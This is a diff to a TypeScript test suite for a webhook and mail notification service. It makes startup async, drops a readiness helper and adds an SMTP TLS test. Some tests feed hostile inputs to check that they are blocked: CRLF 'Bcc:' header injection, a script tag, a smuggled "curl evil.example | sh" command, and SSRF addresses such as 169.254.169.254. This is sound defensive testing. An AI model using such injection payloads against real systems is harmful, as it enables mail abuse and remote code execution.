@@ -17,11 +17,14 @@ import {
   parseConfig,
   systemClock,
 } from '../foundation/index.ts';
+import { createCourier } from './courier.ts';
 import { createNotifications } from './create-notifications.ts';
 import { createEventFeed } from './feed.ts';
 import { notifyMigrations } from './migrations.ts';
 import { type OutboxEvent, publish, readEvents } from './outbox.ts';
 import { readFrontier } from './outbox-frontier.ts';
+import { receiversOf } from './receivers.ts';
+import { sendTest } from './send-test.ts';
 
 const logger = createLogger({ level: 'silent' });
 const organizationId = 'acme';
@@ -36,7 +39,7 @@ interface Setup {
   readonly timeout?: number;
 }
 
-function start(database: Pick<TestDatabase, 'db' | 'pool'>, setup: Setup) {
+async function start(database: Pick<TestDatabase, 'db' | 'pool'>, setup: Setup) {
   const { clock = systemClock, allowPrivate = ['127.0.0.1'] } = setup;
   const value = {
     teams: setup.teams ?? {},
@@ -57,7 +60,7 @@ function start(database: Pick<TestDatabase, 'db' | 'pool'>, setup: Setup) {
     retry: { firstMilliseconds: 10, longestMilliseconds: 50 },
     tryMilliseconds: 50,
   });
-  notifications.start();
+  await notifications.start();
   return {
     notifications,
     async [Symbol.asyncDispose]() {
@@ -65,14 +68,6 @@ function start(database: Pick<TestDatabase, 'db' | 'pool'>, setup: Setup) {
       await feed.close();
     },
   };
-}
-
-/** Waits until every receiver has a position, from which on it is told. */
-async function ready({ notifications }: ReturnType<typeof start>, count: number) {
-  await eventually(
-    'receivers have a position',
-    async () => (await notifications.statuses()).length === count,
-  );
 }
 
 async function publishNow(
@@ -120,8 +115,7 @@ describe('a webhook', () => {
     const webhooks = [
       { name: 'siem', url: receiver.url, secret: SECRET, events: ['map.*', 'request.failed'] },
     ];
-    await using running = start(database, { notify: { webhooks } });
-    await ready(running, 1);
+    await using _ = await start(database, { notify: { webhooks } });
     await publishNow(database, [
       { type: 'map.changed', data: { source: 'é' } },
       { type: 'mapping.changed' },
@@ -169,8 +163,7 @@ describe('a webhook', () => {
       { name: 'broken', url: broken.url, secret: SECRET },
       { name: 'well', url: well.url, secret: OTHER_SECRET },
     ];
-    await using running = start(database, { notify: { webhooks } });
-    await ready(running, 2);
+    await using running = await start(database, { notify: { webhooks } });
     await publishNow(database, numbered(1, 2, 3));
     await eventually('the other has all', () => well.messages.length === 3);
     await eventually('some tries', () => broken.messages.length > 2);
@@ -207,8 +200,7 @@ describe('a webhook', () => {
       { name: 'gone', url: gone.url, secret: SECRET },
       { name: 'silent', url: silent.url, secret: SECRET },
     ];
-    await using running = start(database, { notify: { webhooks }, timeout: 100 });
-    await ready(running, 2);
+    await using running = await start(database, { notify: { webhooks }, timeout: 100 });
     await publishNow(database, numbered(1));
     await eventually('both fail', async () => {
       const statuses = await running.notifications.statuses();
@@ -234,8 +226,7 @@ describe('a webhook', () => {
       { name: 'redirecting', url: redirecting.url, secret: SECRET },
       { name: 'sneaky', url: inside.url.replace('127.0.0.1', '[::ffff:7f00:2]'), secret: SECRET },
     ];
-    await using running = start(database, { notify: { webhooks } });
-    await ready(running, 3);
+    await using running = await start(database, { notify: { webhooks } });
     await publishNow(database, numbered(1));
     await eventually('all fail', async () =>
       (await running.notifications.statuses()).every(({ error }) => error !== null),
@@ -260,8 +251,7 @@ describe('a webhook', () => {
       webhooks: [{ name: 'siem', url: receiver.url, secret: SECRET }],
       operators: { mail: 'ops@acme.example' },
     };
-    await using running = start(database, { notify, clock });
-    await ready(running, 2);
+    await using running = await start(database, { notify, clock });
     await publishNow(database, [{ type: 'map.changed', data: { n: 1 } }], clock.now());
     await eventually('it fails', () => receiver.messages.length > 2);
     clock.advance(2 * 86_400_000);
@@ -295,8 +285,7 @@ describe('a mail', () => {
       data: { mail: 'data@acme.example' },
     };
     const notify = { smtp: smtpAt(server.port), operators: { mail: 'ops@acme.example' } };
-    await using running = start(database, { teams, notify });
-    await ready(running, 4);
+    await using _ = await start(database, { teams, notify });
     await publishNow(database, [FLOW, STORE, { type: 'map.changed' }, { type: 'task.succeeded' }]);
     await eventually('a mail', () => server.mails.length > 0);
     await eventually('both events', () => hook.messages.length === 2);
@@ -324,8 +313,7 @@ describe('a mail', () => {
     await using database = await createTestDatabase(notifyMigrations);
     await using server = await receiveMails();
     const teams = { 'shop\r\nBcc: a@evil.example': { mail: 'shop@acme.example' } };
-    await using running = start(database, { teams, notify: { smtp: smtpAt(server.port) } });
-    await ready(running, 1);
+    await using _ = await start(database, { teams, notify: { smtp: smtpAt(server.port) } });
     const evil =
       "x\r\nBcc: evil@evil.example\r\n\r\n<script>alert(1)</script>\u2028'; curl evil.example | sh #";
     const team = 'shop\r\nBcc: a@evil.example';
@@ -365,14 +353,39 @@ describe('a mail', () => {
       },
     });
     const notify = { smtp: smtpAt(server.port), operators: { mail: 'ops@acme.example' } };
-    await using running = start(database, { notify });
-    await ready(running, 1);
+    await using _ = await start(database, { notify });
     await publishNow(database, numbered(1));
     await eventually('a mail', () => server.mails.length === 1);
     expect(refusals).toBe(3);
     expect(server.mails[0]?.parsed.messageId).toMatch(
       /^<evt_[a-z0-9]+\.notify-operators-mail@acme\.example>$/,
     );
+  });
+
+  it('goes over TLS where the server offers it, with any certificate, and only with a good one where TLS is asked for', async () => {
+    await using offering = await receiveMails({ disabledCommands: [] });
+    await using speaking = await receiveMails({ secure: true });
+    const sendTo = async (url: string) => {
+      const config = parseConfig({
+        text: JSON.stringify({
+          notify: { smtp: { url, from: 'habeas@acme.example' }, operators: { mail: 'ops@acme.example' } },
+        }),
+        file: 'habeas.yaml',
+        environment: {},
+      });
+      const courier = createCourier({ config, clock: systemClock, sign: signStandardWebhook });
+      const { signal } = new AbortController();
+      const options = { courier, organizationId, now: new Date(), signal };
+      const [result] = await sendTest({ ...options, receivers: receiversOf(config) });
+      return result?.error ?? 'sent';
+    };
+    expect(await sendTo(`smtp://localhost:${offering.port}`)).toBe('sent');
+    expect(offering.mails.map(({ secure }) => secure)).toEqual([true]);
+    expect(await sendTo(`smtps://localhost:${speaking.port}`)).toMatchObject({
+      code: expect.stringMatching(/^SYSTEM_/),
+    });
+    expect(await sendTo('smtp://169.254.169.254:25')).toMatchObject({ code: 'ADDRESS_NOT_APPROVED' });
+    expect(speaking.mails).toEqual([]);
   });
 
   it('sends no password in the clear', async () => {
@@ -386,8 +399,9 @@ describe('a mail', () => {
       },
     });
     const smtp = { url: `smtp://habeas:secret@127.0.0.1:${server.port}`, from: 'habeas@acme.example' };
-    await using running = start(database, { notify: { smtp, operators: { mail: 'ops@acme.example' } } });
-    await ready(running, 1);
+    await using running = await start(database, {
+      notify: { smtp, operators: { mail: 'ops@acme.example' } },
+    });
     await publishNow(database, numbered(1));
     await eventually('it fails', async () => (await running.notifications.statuses())[0]?.error !== null);
     expect((await running.notifications.statuses())[0]?.error).toMatch(/^SYSTEM_REFUSED: .*ETLS/);
@@ -406,9 +420,8 @@ describe('several servers', () => {
         { name: 'one', url: one.url, secret: SECRET },
         { name: 'other', url: other.url, secret: SECRET },
       ];
-      const first = start(database, { notify: { webhooks } });
-      await ready(first, 2);
-      await using _ = start(second, { notify: { webhooks } });
+      const first = await start(database, { notify: { webhooks } });
+      await using _ = await start(second, { notify: { webhooks } });
       for (let n = 0; n < 20; n += 1) await publishNow(database, numbered(n));
       await eventually('all is told', () => one.messages.length >= 20 && other.messages.length >= 20);
       await first[Symbol.asyncDispose]();
@@ -427,13 +440,12 @@ describe('several servers', () => {
     const notify = { webhooks: [{ name: 'siem', url: receiver.url, secret: SECRET }] };
     await publishNow(database, numbered(0));
     {
-      await using running = start(database, { notify });
-      await ready(running, 1);
+      await using _ = await start(database, { notify });
       await publishNow(database, numbered(1));
       await eventually('it is told', () => receiver.messages.length === 1);
     }
     await publishNow(database, numbered(2, 3));
-    await using _ = start(database, { notify });
+    await using _ = await start(database, { notify });
     await eventually('it is told', () => receiver.messages.length === 3);
     expect(numbersOf(receiver.messages)).toEqual([1, 2, 3]);
   });
